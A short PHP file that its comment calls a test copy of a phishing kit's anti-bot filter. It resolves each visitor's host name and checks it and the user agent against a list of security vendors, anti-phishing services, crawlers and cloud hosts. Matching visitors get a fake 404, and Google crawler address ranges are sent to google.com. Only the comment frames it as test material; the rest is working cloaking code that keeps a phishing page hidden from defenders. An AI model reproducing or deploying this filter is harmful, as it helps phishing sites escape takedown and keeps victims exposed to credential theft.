<?php
// Written for breachkit's tests: a kit's anti-bot filter. Visitors whose host name
// belongs to a security company, or whose address is in a crawler range, get a 404;
// the rest go on to the page.
function visitor_ip()
{
    foreach (array('HTTP_CF_CONNECTING_IP', 'HTTP_X_FORWARDED_FOR', 'REMOTE_ADDR') as $k) {
        if (!empty($_SERVER[$k])) {
            return trim(explode(',', $_SERVER[$k])[0]);
        }
    }
    return '0.0.0.0';
}

$ip = visitor_ip();
$host = strtolower(@gethostbyaddr($ip));
$ua = strtolower($_SERVER['HTTP_USER_AGENT']);

$hidden_from = array(
    "phishtank", "cyveillance", "netcraft", "trendmicro", "kaspersky", "bitdefender",
    "mcafee", "sophos", "avast", "fortinet", "forcepoint", "zscaler", "proofpoint",
    "googlebot", "crawler", "spider", "amazonaws", "digitalocean", "tor-exit",
);
$ranges = array("^66.102.", "^66.249.", "^64.233.", "^72.14.", "^74.125.", "^209.85.", "^216.239.", "^38.100.");

foreach ($hidden_from as $word) {
    if (strpos($host, $word) !== false || strpos($ua, $word) !== false) {
        header("HTTP/1.0 404 Not Found");
        die("<h1>404 Not Found</h1>The page that you have requested could not be found.");
    }
}
foreach ($ranges as $range) {
    if (preg_match('/' . $range . '/', $ip)) {
        header("Location: https://www.google.com/");
        exit;
    }
}
